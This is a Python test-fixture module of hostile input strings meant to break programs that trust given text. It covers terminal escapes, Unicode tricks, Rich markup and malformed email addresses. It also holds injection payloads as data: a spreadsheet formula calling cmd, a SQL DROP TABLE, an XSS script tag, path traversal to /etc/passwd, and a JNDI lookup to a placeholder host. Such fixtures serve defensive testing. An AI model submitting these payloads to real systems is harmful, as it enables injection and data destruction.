"""Texts which break programs that trust what they are given."""

NAMES: tuple[tuple[str, str], ...] = (
    ("\x1b[31mRöd\x1b[0m", "Escape"),
    ("\x1b]0;titel\x07", "Fönster"),
    ("Bell\x07", "Kontroll\x08\x08\x08"),
    ("[bold red]Markup[/bold red]", "[/]"),
    ("[link=https://phish.test]klick[/link]", "[@click=app.quit]här[/]"),
    ("=cmd|' /C calc'!A0", "Formel"),
    ("@SUM(1+1)*cmd", "+46-1"),
    ("-2+3", '=HYPERLINK("https://x.test")'),
    ("\u202etxt.exe", "Omvänd\u202c"),
    ("Noll\u200bbredd", "Fog\u200d\u2060ad"),
    ("👩‍👩‍👧‍👦", "🏔️🎿 Emoji 🇸🇪"),
    ("Z̷̧̛͎̤̗͕̐̈́a̶̱͂l̵͉̽g̸̢̈o̵̼͠", "K̈ombïnerad"),
    ("Ｆｕｌｌｗｉｄｔｈ", "株式会社全角"),
    ("مها", "העברית עם עברית"),
    ("<script>alert(1)</script>", "<b>html</b>&amp;"),
    ("Robert'); DROP TABLE dv_contact;--", 'O\'Brien "Bob"'),
    ("Rad\nbrytning", "Tab\tb\rvagn"),
    ("Komma, semikolon;", '"citat","fält"'),
    ("%s%n%x", "{0.__class__}{{7*7}}${jndi:ldap://x.test/a}"),
    ("NULL", "undefined"),
    ("../../etc/passwd", "C:\\Windows\\nul"),
    ("A" * 50, "Å" * 50),
    ("   ", "."),
    ("İstanbul ŉ ǅ ß ﬁ", "ſtraße"),
)
"""First and last names: terminal escapes, control characters, Rich markup, spreadsheet formulas, right-to-left
overrides, zero-width and combining characters, emoji, HTML, SQL, line breaks, separators, formats, paths, lengths,
letters that change length with their case."""

CAMPAIGN_NAME = "[red]Sista chansen![/red] \x1b[5m=1+1\u202e 🏔️ <b>50%</b>"
LIST_NAME = "[blink]Höst/vår[/] =A1 \u202eReverse"

BROKEN_ADDRESSES = (
    *("{name}@", "@{domain}", "{name}.{domain}", "{name}@@{domain}", "{name}@localhost", "{name} @{domain}"),
    *("{name}@{domain},other@{domain}", "{name}@example..com", "mailto:{name}@{domain}", "<{name}@{domain}>", "n/a"),
    *(
        "saknas",
        "{name}@-bad-.example",
        ".{name}@{domain}",
        "{name}.@{domain}",
        "ingen e-post",
        "{name}@exämple.invalid",
    ),
)
"""What people type into a field for an address."""
